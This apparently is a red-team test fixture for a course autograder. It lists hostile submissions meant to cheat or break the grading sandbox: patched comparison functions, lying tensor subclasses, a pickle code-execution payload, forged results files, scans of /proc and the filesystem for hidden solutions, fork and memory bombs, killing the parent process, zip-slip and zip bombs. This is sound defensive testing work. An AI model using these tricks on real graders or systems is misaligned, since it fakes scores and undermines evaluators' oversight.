"""The red-team corpus: hostile ch02 submissions, each with what it attacks.

Every attack is written so that it *wins* — returns correct values, or leaves a file
behind — if the defence it probes is missing, and otherwise returns garbage or fails.
So "the attacked functions score zero" proves the defence, and the functions a
submission leaves honest must keep their points.

``Attack.files`` maps a file name to its content for folder submissions; ``Attack.source``
is a single ``numerics.py``. ``Attack.kind`` says how the submission is delivered.
``targets``: functions that must score zero ("*" for all). ``status``: the expected
grading status ("ok", "not loadable").
"""

from __future__ import annotations

import dataclasses
import io
import json
import textwrap
import zipfile

from tests.chapters import harness
from tests.chapters.ch02_numerics_variants import CORRECT, HEADER


def module(**overrides: str) -> str:
    """An honest ch02 module, some functions replaced by ``overrides``."""
    return harness.module(HEADER, CORRECT, **overrides)


ALL = ("stable_softmax", "logsumexp", "log_softmax", "clip_grad_norm")
PWNED = "PWNED-redteam"  # every file an attack tries to leave behind carries this in its name
SEED = 31337  # the hidden seed the red-team batch is graded with: an attack that finds it wins
LEAKS = (str(SEED), "solutions/", "assignments/", "hidden/", "results.json", "/out/")


@dataclasses.dataclass
class Attack:
    id: str
    what: str
    targets: tuple[str, ...]
    source: str | None = None
    files: dict[str, bytes] | None = None
    kind: str = "folder"  # folder | archive | notebook
    status: str = "ok"


# The correct answer an attack returns when it wins: it proves the attack succeeded.
WIN = """
def _win(x, dim=-1):
    m = x.amax(dim=dim, keepdim=True)
    e = torch.exp(x - m)
    return e / e.sum(dim=dim, keepdim=True)
"""


def softmax_attack(body: str, *, prelude: str = "", **others: str) -> str:
    """A module whose stable_softmax runs ``body`` (which returns a value or falls
    through to garbage); the other functions are honest unless given in ``others``."""
    fn = (
        "def stable_softmax(x, dim=-1):\n"
        + textwrap.indent(textwrap.dedent(body).strip(), "    ")
        + "\n    return torch.zeros_like(x)\n"
    )
    return (
        textwrap.dedent(prelude).strip() + f"\nLEAKS = {LEAKS!r}\n" + WIN + "\n" + module(stable_softmax=fn, **others)
    )


def _zip(entries: dict[str, bytes], *, symlinks: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
        for name, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o120777 << 16
            z.writestr(info, target)
    return buf.getvalue()


def _archive_manifest(module_name="numerics.py") -> bytes:
    return json.dumps({"format": 1, "chapter": "ch02_numerics", "module": module_name, "files": []}).encode()


def _notebook(cells: list[str]) -> bytes:
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {},
            "cells": [
                {
                    "cell_type": "code",
                    "source": c,
                    "metadata": {},
                    "outputs": [],
                    "execution_count": None,
                    "id": f"c{i}",
                }
                for i, c in enumerate(cells)
            ],
        }
    ).encode()


HONEST = module()

ATTACKS: list[Attack] = [
    # -- patching what a grader might compare with --------------------------------------
    # (in the call: the same patches at import would also cost every other function its rule points)
    Attack(
        "patch-numpy-torch-comparisons",
        "patch np.allclose, np.testing, torch.allclose/equal/testing, return zeros",
        ("stable_softmax",),
        softmax_attack("""
               import numpy as np
               np.allclose = lambda *a, **k: True
               np.testing.assert_allclose = lambda *a, **k: None
               np.array_equal = lambda *a, **k: True
               torch.allclose = lambda *a, **k: True
               torch.equal = lambda *a, **k: True
               torch.testing.assert_close = lambda *a, **k: None
               return torch.zeros_like(x)"""),
    ),
    Attack(
        "patch-builtins",
        "replace builtins isinstance/abs/max/type while the worker encodes the reply",
        ("stable_softmax",),
        softmax_attack("""
               import builtins
               builtins.isinstance = lambda *a: True
               builtins.abs = lambda v: 0
               builtins.max = lambda *a, **k: 0
               builtins.type = lambda *a: torch.Tensor
               return x * float("nan")"""),
    ),
    Attack(
        "patch-pytest",
        "patch pytest/_pytest so that failures pass",
        ("stable_softmax",),
        softmax_attack("""
               import pytest, _pytest.outcomes
               pytest.fail = lambda *a, **k: None
               pytest.approx = lambda *a, **k: x
               _pytest.outcomes.fail = lambda *a, **k: None
               return torch.zeros_like(x)"""),
    ),
    # -- liar return values --------------------------------------------------------------
    Attack(
        "tensor-subclass-eq",
        "a Tensor subclass whose __eq__/__sub__/__abs__ lie",
        ("stable_softmax",),
        softmax_attack("""
               class Liar(torch.Tensor):
                   def __eq__(self, o): return True
                   def __sub__(self, o): return torch.zeros(())
                   def __abs__(self): return torch.zeros(())
               return torch.zeros_like(x).as_subclass(Liar)"""),
    ),
    Attack(
        "ndarray-subclass",
        "an ndarray subclass that claims equality",
        ("stable_softmax",),
        softmax_attack("""
               import numpy as np
               class Liar(np.ndarray):
                   def __eq__(self, o): return True
               return np.zeros(tuple(x.shape)).view(Liar)"""),
    ),
    Attack(
        "array-function-protocol",
        "an object implementing __array_function__/__array__ to hijack numpy",
        ("stable_softmax",),
        softmax_attack("""
               class Hijack:
                   shape = tuple(x.shape)
                   dtype = x.dtype
                   def __array_function__(self, func, types, args, kwargs): return True
                   def __array__(self, *a, **k):
                       import numpy as np
                       return np.zeros(self.shape)
               return Hijack()"""),
    ),
    Attack(
        "torch-function-protocol",
        "a Tensor subclass with __torch_function__ answering True to everything",
        ("stable_softmax",),
        softmax_attack("""
               class Hijack(torch.Tensor):
                   @classmethod
                   def __torch_function__(cls, func, types, args=(), kwargs=None): return True
               return torch.zeros_like(x).as_subclass(Hijack)"""),
    ),
    Attack(
        "nan-result",
        "NaN everywhere (NaN != NaN tricks a careless comparison)",
        ("stable_softmax",),
        softmax_attack("return torch.full_like(x, float('nan'))"),
    ),
    Attack(
        "pickle-payload",
        "an object whose __reduce__ would run code when unpickled, and raw pickle bytes",
        ("stable_softmax", "logsumexp"),
        softmax_attack(
            """
               import os
               class Payload:
                   def __reduce__(self):
                       return (os.system, ("touch /tmp/PWNED-redteam-pickle",))
               return Payload()""",
            logsumexp="""
def logsumexp(x, dim=-1):
    import os, pickle
    class P:
        def __reduce__(self):
            return (os.system, ("touch /tmp/PWNED-redteam-pickle2",))
    return pickle.dumps(P())
""",
        ),
    ),
    # -- exits ---------------------------------------------------------------------------
    Attack(
        "sys-exit",
        "sys.exit(0) in the middle of a call",
        ("stable_softmax",),
        softmax_attack("import sys\nsys.exit(0)"),
    ),
    Attack(
        "os-exit",
        "os._exit(0): the worker dies mid-call",
        ("stable_softmax",),
        softmax_attack("import os\nos._exit(0)"),
    ),
    Attack(
        "keyboard-interrupt",
        "raise KeyboardInterrupt and SystemExit",
        ("stable_softmax", "logsumexp"),
        softmax_attack("raise KeyboardInterrupt", logsumexp="def logsumexp(x, dim=-1):\n    raise SystemExit(0)\n"),
    ),
    Attack(
        "pytest-exit",
        "pytest.exit(returncode=0) from the student's code",
        ("stable_softmax",),
        softmax_attack("import pytest\npytest.exit('all tests passed', returncode=0)"),
    ),
    Attack(
        "atexit-forge",
        "atexit handler that writes a perfect results.json wherever it can, then exits",
        ("stable_softmax",),
        softmax_attack("""
               import atexit, json, os
               def forge():
                   fake = json.dumps({"score": 999, "tests": []})
                   for d in (".", "..", "../..", "/tmp", os.path.expanduser("~"), "/"):
                       try:
                           with open(os.path.join(d, "results.json"), "w") as fh:
                               fh.write(fake)
                           with open(os.path.join(d, "PWNED-redteam-atexit"), "w") as fh:
                               fh.write(fake)
                       except OSError:
                           pass
               atexit.register(forge)
               raise SystemExit(0)"""),
    ),
    Attack(
        "exit-at-import",
        "os._exit(0) at import: nothing loads",
        ALL,
        "import os\nos._exit(0)\n" + HONEST,
        status="not loadable",
    ),
    # -- reading secrets -------------------------------------------------------------------
    Attack(
        "read-solutions-filesystem",
        "search the whole visible filesystem for the reference or the graders",
        ("stable_softmax",),
        softmax_attack("""
               import os, time
               global _FOUND
               if "_FOUND" not in globals():
                   _FOUND, mine, t0 = False, os.path.realpath(__file__), time.monotonic()
                   for root, dirs, files in os.walk("/"):
                       if time.monotonic() - t0 > 1.5 or root.startswith(("/proc", "/sys", "/dev")):
                           dirs[:] = []
                           continue
                       for f in files:
                           path = os.path.join(root, f)
                           if f.endswith(".py") and os.path.realpath(path) != mine and (
                                   f == "numerics.py" or f.startswith("test_softmax")):
                               try:
                                   text = open(path).read()
                               except OSError:
                                   continue
                               _FOUND = _FOUND or "BEGIN SOLUTION" in text or "Hidden graders" in text
               if _FOUND:
                   return _win(x, dim)"""),
    ),
    Attack(
        "read-known-paths",
        "open the course's known paths, the grader package, the hidden tests",
        ("stable_softmax",),
        softmax_attack("""
               import glob
               for pat in ("/work/*/solutions/ch02_numerics/numerics.py", "/work/*/assignments/ch02_numerics/hidden/*.py",
                           "/root/**/solutions/**/numerics.py", "/tmp/**/solutions/**/numerics.py",
                           "/home/**/hidden/*.py"):
                   try:
                       if glob.glob(pat, recursive=True):
                           return _win(x, dim)
                   except OSError:
                       pass
               try:
                   import grader  # the trusted package
                   return _win(x, dim)
               except ImportError:
                   pass"""),
    ),
    Attack(
        "read-proc",
        "/proc: other processes' cmdline, environ, cwd (the grader's), mounts",
        ("stable_softmax",),
        softmax_attack("""
               import os
               for pid in os.listdir("/proc"):
                   if not pid.isdigit() or int(pid) == os.getpid():
                       continue
                   for what in ("cmdline", "environ"):
                       try:
                           data = open(f"/proc/{pid}/{what}", "rb").read()
                       except OSError:
                           continue
                       if any(w.encode() in data for w in LEAKS):
                           return _win(x, dim)
                   try:
                       if "solutions" in os.listdir(f"/proc/{pid}/cwd") or "assignments" in os.listdir(f"/proc/{pid}/cwd"):
                           return _win(x, dim)
                   except OSError:
                       pass"""),
    ),
    Attack(
        "read-environment",
        "look for a seed, a results path or course paths in the environment",
        ("stable_softmax",),
        softmax_attack("""
               import os
               blob = " ".join(f"{k}={v}" for k, v in os.environ.items())
               if any(w in blob for w in LEAKS) or any("GRADE" in k or "COURSE" in k for k in os.environ):
                   return _win(x, dim)"""),
    ),
    Attack(
        "inspect-frames",
        "walk caller frames for expected values or a reference module",
        ("stable_softmax",),
        softmax_attack("""
               import sys
               f = sys._getframe(1)
               while f is not None:
                   for name, v in list(f.f_locals.items()) + list(f.f_globals.items()):
                       if name in ("reference", "expected") or getattr(v, "__name__", "") == "reference":
                           return _win(x, dim)
                   f = f.f_back"""),
    ),
    Attack(
        "gc-objects",
        "gc.get_objects() for a reference module or the grader's expectations",
        ("stable_softmax",),
        softmax_attack("""
               import gc, types
               for o in gc.get_objects():
                   if isinstance(o, types.ModuleType) and hasattr(o, "stable_softmax") and o.__name__ != __name__:
                       return o.stable_softmax(x, dim)
                   if isinstance(o, types.FunctionType) and o.__name__ == "stable_softmax" and o.__module__ != __name__:
                       return o(x, dim)"""),
    ),
    # -- writing -----------------------------------------------------------------------------
    Attack(
        "write-fake-results",
        "write results.json and marker files into every directory it can",
        ("stable_softmax",),
        softmax_attack("""
               import os
               for d in (".", "..", "/", "/tmp", "/root", "/work", "/home", os.path.dirname(__file__),
                         os.path.expanduser("~"), "/dev/shm", "/var/tmp"):
                   for name in ("results.json", "PWNED-redteam-write"):
                       try:
                           with open(os.path.join(d, name), "w") as fh:
                               fh.write('{"score": 999}')
                       except OSError:
                           pass
               return torch.zeros_like(x)"""),
    ),
    Attack(
        "fill-disk",
        "write until the disk (scratch tmpfs) is full",
        ("stable_softmax",),
        softmax_attack("""
               chunk = b"\\0" * (1 << 20)
               with open("/tmp/PWNED-redteam-fill", "wb") as fh:
                   for _ in range(100000):
                       fh.write(chunk)"""),
    ),
    # -- resources -----------------------------------------------------------------------------
    Attack("infinite-loop", "while True: pass", ("stable_softmax",), softmax_attack("while True:\n    pass")),
    Attack("sleep", "time.sleep(10**6)", ("stable_softmax",), softmax_attack("import time\ntime.sleep(10**6)")),
    Attack(
        "memory-bomb",
        "allocate without bound",
        ("stable_softmax",),
        softmax_attack("""
               hog = []
               while True:
                   hog.append(bytearray(256 << 20))"""),
    ),
    Attack(
        "fork-bomb",
        "os.fork() in a loop",
        ("stable_softmax",),
        softmax_attack("""
               import os
               for _ in range(10000):
                   os.fork()"""),
    ),
    Attack(
        "subprocess-outlives",
        "start a subprocess that sleeps past the call",
        ("stable_softmax",),
        softmax_attack("""
               import subprocess
               subprocess.Popen(["sleep", "1000"])
               subprocess.Popen(["/bin/sh", "-c", "touch /tmp/PWNED-redteam-child"])"""),
    ),
    Attack(
        "thread-outlives",
        "a thread that keeps spinning and writing after the call returns",
        ("stable_softmax",),
        softmax_attack("""
               import threading, time
               def spin():
                   while True:
                       time.sleep(0.001)
                       try:
                           open("/tmp/PWNED-redteam-thread", "a").write("x")
                       except OSError:
                           pass
               threading.Thread(target=spin, daemon=True).start()"""),
    ),
    Attack(
        "huge-output",
        "print hundreds of megabytes",
        ("stable_softmax",),
        softmax_attack("""
               import sys
               for _ in range(300):
                   sys.stdout.write("A" * (1 << 20))
                   sys.stderr.write("B" * (1 << 20))"""),
    ),
    Attack(
        "many-open-files",
        "open files until the table is full",
        ("stable_softmax",),
        softmax_attack("""
               hold = []
               for _ in range(1 << 20):
                   hold.append(open("/dev/null"))"""),
    ),
    # -- network ---------------------------------------------------------------------------------
    Attack(
        "network-tcp",
        "TCP to the internet and to the host's loopback",
        ("stable_softmax",),
        softmax_attack("""
               import socket
               for addr in (("1.1.1.1", 443), ("127.0.0.1", 22), ("127.0.0.1", 80)):
                   try:
                       socket.create_connection(addr, timeout=0.5).close()
                       return _win(x, dim)
                   except OSError:
                       pass"""),
    ),
    Attack(
        "network-udp-dns",
        "UDP datagram and a DNS lookup",
        ("stable_softmax",),
        softmax_attack("""
               import socket
               try:
                   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                   s.sendto(b"x", ("8.8.8.8", 53))
                   return _win(x, dim)
               except OSError:
                   pass
               try:
                   socket.getaddrinfo("pypi.org", 443)
                   return _win(x, dim)
               except OSError:
                   pass"""),
    ),
    # -- the parent -----------------------------------------------------------------------------
    Attack(
        "signal-parent",
        "SIGKILL the parent, every visible process, and process group 0",
        ("stable_softmax",),
        softmax_attack("""
               import os, signal
               for target in (os.getppid(), 1):
                   try:
                       os.kill(target, signal.SIGKILL)
                   except OSError:
                       pass
               for pid in os.listdir("/proc"):
                   if pid.isdigit() and int(pid) != os.getpid():
                       try:
                           os.kill(int(pid), signal.SIGKILL)
                       except OSError:
                           pass"""),
    ),
    Attack(
        "ptrace-parent",
        "PTRACE_ATTACH to the parent and process_vm_readv",
        ("stable_softmax",),
        softmax_attack("""
               import ctypes, os
               libc = ctypes.CDLL(None, use_errno=True)
               if libc.ptrace(16, os.getppid(), 0, 0) == 0:
                   return _win(x, dim)"""),
    ),
    # -- intake ----------------------------------------------------------------------------------
    Attack(
        "shadow-modules",
        "numpy.py, torch.py, conftest.py, sitecustomize.py and a .pth beside the module",
        ("stable_softmax",),
        files={
            "numerics.py": module(
                stable_softmax="def stable_softmax(x, dim=-1):\n    return torch.zeros_like(x)\n"
            ).encode(),
            "numpy.py": b"open('/tmp/PWNED-redteam-shadow-numpy', 'w')\nallclose = lambda *a, **k: True\n",
            "torch.py": b"open('/tmp/PWNED-redteam-shadow-torch', 'w')\n",
            "conftest.py": b"import pytest\n@pytest.hookimpl(tryfirst=True)\ndef pytest_runtest_call(item):\n    open('/tmp/PWNED-redteam-conftest', 'w')\n    return True\n",
            "sitecustomize.py": b"open('/tmp/PWNED-redteam-sitecustomize', 'w')\n",
            "evil.pth": b"import os; open('/tmp/PWNED-redteam-pth', 'w')\n",
        },
    ),
    Attack(
        "zip-slip",
        "an archive whose members escape with ../ and absolute paths",
        ALL,
        kind="archive",
        status="not loadable",
        files={
            "sub.zip": _zip(
                {
                    "submission.json": _archive_manifest(),
                    "../../PWNED-redteam-zipslip.py": b"x = 1\n",
                    "/tmp/PWNED-redteam-abs.py": b"x = 1\n",
                    "numerics.py": HONEST.encode(),
                }
            )
        },
    ),
    Attack(
        "zip-symlink",
        "an archive whose module is a symlink to a file outside",
        ALL,
        kind="archive",
        status="not loadable",
        files={"sub.zip": _zip({"submission.json": _archive_manifest()}, symlinks={"numerics.py": "/etc/passwd"})},
    ),
    Attack(
        "zip-bomb",
        "a member that expands to a gigabyte",
        ALL,
        kind="archive",
        status="not loadable",
        files={"sub.zip": None},
    ),  # built lazily: see zip_bomb()
    Attack(
        "notebook-malformed",
        "a notebook that is not JSON",
        ALL,
        kind="notebook",
        status="not loadable",
        files={"numerics.ipynb": b'{"cells": [ {"cell_type": "code", "source": "import torch\\n'},
    ),
    Attack(
        "notebook-magics",
        "shell escapes and cell magics (commented out, never run); honest code cells",
        (),
        kind="notebook",
        files={
            "numerics.ipynb": _notebook(
                [
                    "!touch /tmp/PWNED-redteam-nb\n%timeit 1",
                    "%%bash\ntouch /tmp/PWNED-redteam-nb2\nrm -rf /tmp/x",
                    HONEST,
                ]
            )
        },
    ),
]


def zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("submission.json", _archive_manifest())
        with z.open("numerics.py", "w", force_zip64=True) as fh:
            block = b"#" * (1 << 20)
            for _ in range(1024):
                fh.write(block)
    return buf.getvalue()
